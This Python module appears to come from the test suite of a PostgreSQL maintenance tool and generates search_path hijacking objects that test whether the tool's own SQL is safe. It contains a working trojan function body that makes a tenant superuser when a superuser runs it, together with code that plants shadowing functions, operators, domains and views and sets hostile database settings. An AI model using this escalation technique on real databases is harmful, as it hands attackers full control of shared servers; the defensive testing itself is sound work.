"""Objects that a tenant can create so that a superuser runs them by mistake: functions, operators, types, tables. They are
generated from the caretaker's own SQL, so that new SQL is covered too."""

from __future__ import annotations

import re
import sys
from typing import Any

from servers import DUTIES, sql

assert DUTIES  # imported, so that all modules of the program are loaded

# When a superuser runs a planted function, the function writes this to the server's log, and makes the tenant a superuser.
CANARY = "planted and run by a superuser: "


def own_sql() -> str:
    """Return all SQL of the program, from the constants of its modules."""
    path = str(sys.modules["caretaker"].__file__).rpartition("/")[0]
    modules = [module for module in sys.modules.values() if str(getattr(module, "__file__", "")).startswith(path)]
    texts = [
        value for module in modules for name, value in vars(module).items() if name.isupper() and isinstance(value, str)
    ]
    return "\n".join(text for text in texts if re.search(r"SELECT|DO \$", text))


def trojan(tenant: str, what: str, result: str = "RETURN NULL;") -> str:
    """Return the body of a planted function, which itself does not depend on the search_path."""
    return f"""$trojan$ BEGIN
      IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
        RAISE LOG '{CANARY}%', '{what.replace("'", "''").replace("%", "%%")}';
        EXECUTE 'ALTER ROLE {tenant} SUPERUSER';
      END IF;
      {result}
    END $trojan$"""


OPERATORS = ("=", "<>", "<", ">", "<=", ">=", "||", "~", "~~", "!~~", "-", "+", "*", "->", "->>", "@>", "<@", "&&", "/")
OPERANDS = (
    *(
        "name,text",
        "name,name",
        "text,text",
        "oid,oid",
        "oid,integer",
        "integer,integer",
        "bigint,integer",
        "text,name",
    ),
    *(
        "jsonb,text",
        "json,text",
        "text[],text",
        "text[],text[]",
        "name[],name",
        "name,name[]",
        "boolean,boolean",
        "xid,xid",
    ),
    *("oid[],oid", "oid[],oid[]", "anyarray,anyelement", "anyelement,anyelement", "anyarray,anyarray", "pg_lsn,pg_lsn"),
    *("regprocedure,oid", "oid,regprocedure", "oid,bigint", '"char","char"', "timestamptz,timestamptz", '"char",text'),
)
# For arguments of any type, the caretaker's SQL mostly uses these types.
CONCRETE = (
    "text",
    "name",
    "json",
    "oid",
    "text,text",
    "text,name",
    "text,name,name",
    "text,json",
    "text,json,text,json",
    "name[],name",
)
TYPES = ("text", "name", "oid", "json", "jsonb", "regrole", "regprocedure", "record")


def planted(tenant: str, schema: str) -> str:
    """Return SQL that fills a schema of the tenant. Some statements fail, which depends on the version."""
    words = set(re.findall(r"[a-z_][a-z_0-9]*", own_sql()))
    parts = ["SET search_path TO pg_catalog; SET check_function_bodies TO off; SET client_min_messages TO error;"]
    listed = ", ".join(f"'{word}'" for word in sorted(words))
    # The signatures of each function in pg_catalog, and others that match better if the function accepts any type.
    signatures = sql(
        "SELECT DISTINCT quote_ident(proname), CASE WHEN prokind <> 'f' OR prorettype::regtype::text LIKE 'any%' OR"
        " provariadic <> 0 OR 'any' = ANY (SELECT typname FROM pg_type WHERE oid = ANY (proargtypes))"
        " OR proargtypes::oid[] && ARRAY['internal'::regtype::oid, 'anyelement'::regtype::oid, 'anyarray'::regtype::oid] THEN '*'"
        " ELSE array_to_string(proargtypes::oid[]::regtype[], ',') END FROM pg_proc"
        f" WHERE pronamespace = 'pg_catalog'::regnamespace AND pronargs BETWEEN 1 AND 4 AND proname IN ({listed})"
    )
    for signature in signatures:
        function, _, arguments = signature.partition("|")
        for types in CONCRETE if arguments == "*" else (arguments,):
            body = trojan(tenant, f"{schema}.{function}({types})")
            parts.append(f"CREATE FUNCTION {schema}.{function}({types}) RETURNS text LANGUAGE plpgsql AS {body};")
    for number, operands in enumerate(OPERANDS):
        left, _, right = operands.partition(",")
        function = f"{schema}.operator_{number}"
        body = trojan(tenant, f"{schema} operator of {operands}", "RETURN true;")
        parts.append(f"CREATE FUNCTION {function}({operands}) RETURNS boolean LANGUAGE plpgsql AS {body};")
        for operator in OPERATORS:
            parts.append(
                f"CREATE OPERATOR {schema}.{operator} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {function});"
            )
    check = trojan(tenant, f"{schema} domain", "RETURN true;")
    parts.append(f"CREATE FUNCTION {schema}.checked(text) RETURNS boolean LANGUAGE plpgsql AS {check};")
    for name in TYPES:
        parts.append(f"CREATE DOMAIN {schema}.{name} AS pg_catalog.text CHECK ({schema}.checked(VALUE));")
    for name in sorted(word for word in words if word.startswith("pg_")):
        parts.append(
            f"CREATE VIEW {schema}.{name} AS SELECT *, {schema}.checked('x') AS planted FROM pg_catalog.{name};"
        )
    return "\n".join(parts)


def fill(tenant: str, database: str, *schemas: str) -> None:
    """Fill schemas of a database as the tenant, also `public` if they may, and grant USAGE to PUBLIC."""
    for schema in schemas:
        made = "" if schema == "public" else f"CREATE SCHEMA {schema}; GRANT USAGE ON SCHEMA {schema} TO PUBLIC;"
        sql(f"{made}\n{planted(tenant, schema)}", database, tenant, stop=False)


def count_of(tenant: str, database: str, schema: str) -> int:
    """Return the number of the tenant's functions in a schema, to check that they were created."""
    count = f"SELECT count(*) FROM pg_proc WHERE pronamespace = to_regnamespace('{schema}') AND proowner = '{tenant}'::regrole"
    return int(sql(count, database)[0])


# The worst values to which the owner of a database can set each setting.
STRINGS: dict[str, Any] = {
    "search_path": "public, postgres, pg_catalog",
    "role": "maker",
    "session_authorization": "maker",
    "default_table_access_method": "heap2",
    "local_preload_libraries": "absent",
    "DateStyle": "German",
    "TimeZone": "Asia/Kathmandu",
    "client_encoding": "LATIN1",
    "lc_messages": "xx",
    "default_tablespace": "absent",
    "temp_tablespaces": "absent",
    "plpgsql.extra_errors": "all",
    "plpgsql.extra_warnings": "all",
    "caretaker.arguments": "[]",
    "restrict_nonsystem_relation_kind": "view, foreign-table",
    "createrole_self_grant": "set, inherit",
}


def settings(database: str, worst: str) -> str:
    """Return SQL that sets each setting that a user may set for a database, to its lowest or highest value."""
    lines = sql(
        "SELECT name, vartype, boot_val, coalesce(min_val, ''), coalesce(max_val, ''),"
        f" coalesce(enumvals[CASE WHEN '{worst}' = 'least' THEN 1 ELSE array_length(enumvals, 1) END], '')"
        " FROM pg_settings WHERE context = 'user'"
    )
    wanted = dict(STRINGS)
    for line in lines:
        name, kind, default, least, most, choice = line.split("|")
        if kind == "bool":
            wanted[name] = "off" if default == "on" else "on"
        elif kind == "enum":
            wanted[name] = choice
        elif kind in ("integer", "real"):
            # For a timeout, 0 means no timeout. For these settings, the smallest value above 0 is the worst.
            low = "1" if least in ("0", "-1") else least
            wanted[name] = low if worst == "least" else most
    wanted |= {name: "1" for name in wanted if name.endswith("_timeout") and worst == "least"}
    lists = {name: ", ".join(f"'{item}'" for item in str(value).split(", ")) for name, value in wanted.items()}
    return "\n".join(f"ALTER DATABASE {database} SET {name} TO {value};" for name, value in lists.items())
